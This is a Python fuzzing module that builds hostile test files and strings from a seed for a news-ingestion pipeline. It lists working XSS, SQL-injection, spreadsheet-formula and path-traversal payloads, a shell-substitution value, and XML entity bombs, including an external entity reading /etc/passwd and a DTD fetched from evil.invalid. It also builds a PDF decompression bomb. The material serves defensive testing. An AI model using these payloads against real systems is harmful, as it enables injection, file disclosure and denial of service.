"""Hostile input, made by code from a seed: texts, numbers, days, files of every format, tables, archives.

Nothing of it is taken from anywhere; the classes of attack are the usual ones. What a case is depends on the random
numbers alone, so that a seed and a number name it.
"""

import gzip
import io
import json
import random
import zipfile
import zlib
from collections.abc import Callable
from typing import Any, Final

XSS: Final = (
    '<img src=x onerror="window.__pwned=1;parent.__pwned=1;alert(1)">',
    "<script>window.__pwned=1;alert(2)</script>",
    "\"><svg onload='window.__pwned=1'>",
    "'-alert(3)-'",
    "</script><script>window.__pwned=1</script>",
    "</style></title></textarea><iframe srcdoc='<script>parent.__pwned=1</script>'>",
    "[x](javascript:window.__pwned=1) ![y](https://evil.invalid/x.png) **b** $x$ :red[z]",
    "<a href='javascript:window.__pwned=1'>x</a>",
    "javascript:window.__pwned=1",
    "data:text/html,<script>parent.__pwned=1</script>",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} #{1} <%= 1 %>",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62; &amp;lt;",
    "<!--<img src='--><img src=x onerror=window.__pwned=1>//'>",
    "\u2028window.__pwned=1\u2029",
)
SQL: Final = (
    "'; DROP TABLE reports; --",
    '" OR ""="',
    "1) UNION SELECT password FROM users --",
    "\\'; COPY x FROM PROGRAM 'id' --",
    "%' ESCAPE '!",
    "$$; SELECT pg_sleep(60) $$",
    ":name %(name)s ? {0}",
)
FORMULAS: Final = (
    '=HYPERLINK("https://evil.invalid","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000\uff1d1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\x00=1+1",
    "\x1b\v=1+1",
    "''=1",
    'a"\n=1+1',
)
PATHS: Final = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\boot.ini",
    "reports.jsonl/../../x",
    "con",
    "a\x00.txt",
    "x" * 300,
    "‮txt.exe",
    "%2e%2e%2f",
    "~root",
    ".",
    "",
    "-rf",
    "$(id)`id`;id|id\n",
)
ODD: Final = (
    "",
    " ",
    "\x00",
    "\x00" * 50,
    "\ud800",
    "a\udfffb\ud83d",
    "\ufffe\uffff",
    "‮abc‬",
    "\u2066\u2067\u202b" * 20,
    "ki\u200bl\u200cl\u200de\u2060d",
    "Z" + "\u0300" * 5_000,
    "\u0f73" * 40,
    "".join(map(chr, range(32))) + "\x7f\x80\x9f",
    "\U0001f469\u200d" * 30,
    "ﷺ" * 100,
    "İıſK",
    "%s%n%x{}{0}{x.__class__}",
    "1e400",
    "-1e400",
    "NaN",
    "Infinity",
    "٣" * 30,
    "²³¼Ⅷ",
    "9" * 5_000,
    "0x1f",
    "1_000",
    "--",
    "null",
    "true",
    "\\",
    "\\u0000",
    "a" * 20_000,
    "(" * 5_000,
    "," * 5_000,
    "killed " * 1_500,
    "0000-00-00",
    "9999-12-31",
    "99999-01-01",
    "0001-01-01",
    "2026-02-30",
    "31 February 2026",
    "20260131",
    "2026-W01-1",
    "-0001-01-01",
)
TEXTS: Final = XSS + SQL + FORMULAS + PATHS + ODD
NUMBERS: Final = (
    0, -1, 2**31, 2**63, 2**64, -(2**70), 10**4_000, float("nan"), float("inf"), float("-inf"), 1e308, -0.0,
    5e-324, True, None, "4", [], {}, "٤",
)  # fmt: skip
STORY: Final = (
    "Four border guards were killed on 18 January 2026 near Kavo village in the Shamsiddin Shohin district, "
    "the committee said. Two smugglers were detained and 12 kg of hashish seized. "
)


def text(rng: random.Random) -> str:
    """Make a hostile text: one of the list, several in one, or one within words that a reader takes up."""
    kind = rng.randrange(6)
    if kind < 2:
        return rng.choice(TEXTS)
    if kind == 2:
        return "".join(rng.choice(TEXTS) for _ in range(rng.randint(2, 4)))
    if kind == 3:
        at = rng.randrange(len(STORY))
        return STORY[:at] + rng.choice(TEXTS) + STORY[at:]
    if kind == 4:
        return "".join(
            chr(rng.choice((rng.randrange(0x80), rng.randrange(0x3000), rng.randrange(0x110000))))
            for _ in range(rng.randint(1, 80))
        )
    return rng.choice(("\ufeff", "\u200b", " ", "\t", "\x00", "'")) * rng.randint(1, 3) + rng.choice(TEXTS)


def short(rng: random.Random, most: int = 300) -> str:
    """Make a hostile text of so many characters at most."""
    return text(rng)[:most]


def number(rng: random.Random) -> Any:
    """Give a hostile number, or what stands in a number's place."""
    return rng.choice(NUMBERS)


def utf8(words: str) -> bytes:
    """Write a text as bytes, halves of surrogate pairs too."""
    return words.encode("utf-8", "surrogatepass")


def _page(rng: random.Random) -> bytes:
    body = text(rng)
    return utf8(
        f"<!doctype html><html><head><title>{text(rng)}</title>"
        f"<meta charset='{rng.choice(('utf-8', 'utf-7', 'rot13', body[:20]))}'>"
        f"<meta property='og:site_name' content=\"{text(rng)}\"><meta name=date content='{rng.choice(ODD)}'></head>"
        f"<body><article><h1>{text(rng)}</h1><p>{STORY}</p><p>{body}</p></article></body></html>"
    )


def _deep_page(rng: random.Random) -> bytes:
    depth = rng.choice((500, 20_000, 49_000))
    tag = rng.choice(("div", "b", "table", "ul><li", "blockquote"))
    return b"<html><body>" + f"<{tag}>".encode() * depth + STORY.encode()


def _json_lines(rng: random.Random) -> bytes:
    lines = []
    for _ in range(rng.randint(1, 4)):
        record = {
            "text": rng.choice((STORY + text(rng), text(rng), number(rng))),
            "published": rng.choice((rng.choice(ODD), "2026-01-19", number(rng), 20260119)),
            **{
                name: rng.choice((text(rng), number(rng)))
                for name in ("url", "outlet", "title", "lang")
                if rng.random() < 0.6
            },
        }
        lines.append(dumps(record))
    return utf8("\n".join(lines))


def dumps(value: Any) -> str:
    """Write JSON, long numbers too, which Python's own writer refuses."""
    if isinstance(value, dict):
        return "{" + ",".join(f"{json.dumps(key)}:{dumps(one)}" for key, one in value.items()) + "}"
    if isinstance(value, int) and not isinstance(value, bool) and abs(value) > 10**300:
        return "9" * 5_001
    return json.dumps(value)


def _odd_json(rng: random.Random) -> bytes:
    return rng.choice(
        (
            b"[" * 100_000,
            b"[" * 100_000 + b"]" * 100_000,
            b'{"a":' * 100_000,
            b'{"text":' + b"[" * 50_000 + b"]" * 50_000 + b"}",
            b'{"text": 1e400, "published": ' + b"9" * 10_000 + b"}",
            b'{"text": "' + STORY.encode() + b'", "text": null}',
            b'{"text": "\\ud800 ' + STORY.encode() + b'", "outlet": "\\ud83d", "url": "\\u0000", "title": "\\udfff"}',
            b'{"text": NaN}', b"nul", b'"', b"{}", b"[]", b"[[]]", b"\xef\xbb\xbf", b"\xef\xbb\xbf{}",
            b'{"text": "' + b"\\u0300" * 3_000 + b'"}',
        )
    )  # fmt: skip


def bomb_feed(rng: random.Random) -> bytes:
    """Make a feed that would swell: laughs, quadratic blow-up, an outer entity, an outer document type."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    heads = (
        f'<!DOCTYPE rss [<!ENTITY l0 "ha">{laughs}]>',
        f'<!DOCTYPE rss [<!ENTITY l9 "{"a" * 50_000}">]>',
        '<!DOCTYPE rss [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;]>',
        '<!DOCTYPE rss SYSTEM "http://evil.invalid/x.dtd">',
        '<!DOCTYPE rss PUBLIC "-//x" "file:///etc/hostname">',
    )
    entity = "&l9;" * rng.choice((1, 2_000))
    words = f"<?xml version='1.0'?>{rng.choice(heads)}<rss version='2.0'><channel><item><title>{entity}</title>"
    words += f"<description>{STORY}{entity}</description></item></channel></rss>"
    return words.encode(rng.choice(("utf-8", "utf-16", "utf-16-be", "utf-32")))


def _feed(rng: random.Random) -> bytes:
    items = "".join(
        f"<item><title>{text(rng)}</title><link>{text(rng)}</link><pubDate>{rng.choice(ODD)}</pubDate>"
        f"<description><![CDATA[{STORY}{text(rng)}]]></description></item>"
        for _ in range(rng.randint(0, 4))
    )
    atom = f"<feed xmlns='http://www.w3.org/2005/Atom'><title>{text(rng)}</title><entry>"
    atom += f"<summary type='html'>{text(rng)}</summary><content>{STORY}</content></entry></feed>"
    return utf8(
        rng.choice(
            (
                f"<?xml version='1.0'?><rss version='2.0'><channel><title>{text(rng)}</title>{items}</channel></rss>",
                atom,
            )
        )
    )


def _deep_feed(rng: random.Random) -> bytes:
    return b"<?xml version='1.0'?><rss>" + b"<a>" * rng.choice((1_000, 50_000)) + b"<item>"


def pdf(words: str = STORY) -> bytes:
    """Make a PDF of one page with a line of text; its table of places is right."""
    stream = f"BT /F1 12 Tf 10 700 Td ({words}) Tj ET".encode("latin-1", "replace")
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )
    return _pdf_of(objects)


def _pdf_of(objects: tuple[bytes, ...]) -> bytes:
    out = io.BytesIO(b"%PDF-1.4\n")
    out.seek(0, io.SEEK_END)
    places = []
    for n, one in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (n, one))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))
    return out.getvalue()


def pdf_bomb(size: int = 80_000_000) -> bytes:
    """Make a small PDF whose page unpacks to so many bytes, twice packed."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)) + packer.flush()
    stream = zlib.compress(packed)
    return _pdf_of(
        (
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>",
            b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        )
    )


def _broken_pdf(rng: random.Random) -> bytes:
    data = bytearray(pdf())
    swaps = (
        (b"/Kids [3 0 R]", b"/Kids [2 0 R]"), (b"/Count 1", b"/Count 99999999"), (b"/Length ", b"/Length -"),
        (b"2 0 R >>", b"1 0 R >>"), (b"/Contents 4 0 R", b"/Contents 3 0 R"), (b"/Root 1", b"/Root 9"),
    )  # fmt: skip
    for old, new in rng.sample(swaps, rng.randint(0, 2)):
        data = bytearray(bytes(data).replace(old, new))
    for _ in range(rng.randint(0, 12)):
        data[rng.randrange(8, len(data))] = rng.randrange(256)
    return bytes(data[: rng.randint(5, len(data))] if rng.random() < 0.3 else data)


def _packed(rng: random.Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        box.writestr("x" + short(rng).encode("utf-8", "replace").decode() + "x", b"0" * rng.choice((1, 2_000_000)))
    return rng.choice(
        (
            out.getvalue(),
            gzip.compress(b"0" * 1_000_000),
            b"PK\x03\x04",
            b"\x1f\x8b",
            b"\x89PNG\r\n\x1a\n",
            b"\xff\xd8\xff",
            b"%PDF-",
        )
    )


def _raw(rng: random.Random) -> bytes:
    return rng.choice(
        (
            b"",
            b"\x00" * 100,
            rng.randbytes(rng.randint(1, 3_000)),
            STORY.encode() + rng.randbytes(rng.randint(1, 30)),
            b"\xff\xfe" + rng.randbytes(rng.randint(0, 61)),
            b"\xfe\xff\xd8\x00",
            b"\xff\xfe\x00\x00" + rng.randbytes(8),
            STORY.encode("utf-16"),
            (STORY + "\x00").encode("utf-16-be"),
            STORY.encode("utf-32"),
            b"\xc0\xaf\xe0\x80\xaf\xed\xa0\x80 killed",
            b"\xef\xbb\xbf" * 40,
            utf8(text(rng)),
            utf8(STORY + text(rng)),
        )
    )


FILES: Final[tuple[Callable[[random.Random], bytes], ...]] = (
    _raw, _raw, _raw, _page, _page, _json_lines, _json_lines, _json_lines, _odd_json, _feed, _feed, bomb_feed,
    _deep_feed,
    _deep_page, _broken_pdf, _broken_pdf, _packed,
)  # fmt: skip
ENDINGS: Final = (".txt", ".html", ".pdf", ".jsonl", ".json", ".xml", ".rss", ".zip", "", ".ndjson", ".JSON")


def file(rng: random.Random) -> tuple[str, bytes]:
    """Make a hostile file: its name and its bytes."""
    return short(rng, 250) + rng.choice(ENDINGS), rng.choice(FILES)(rng)
